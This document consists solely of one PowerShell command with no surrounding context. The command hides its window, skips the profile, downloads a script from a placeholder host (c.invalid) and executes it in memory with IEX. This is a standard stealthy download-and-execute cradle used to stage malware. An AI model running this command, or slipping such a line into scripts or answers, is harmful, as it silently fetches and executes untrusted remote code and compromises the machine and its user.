powershell -w hidden -nop -c "IEX(New-Object Net.WebClient).DownloadString('https://c.invalid/p.ps1')"
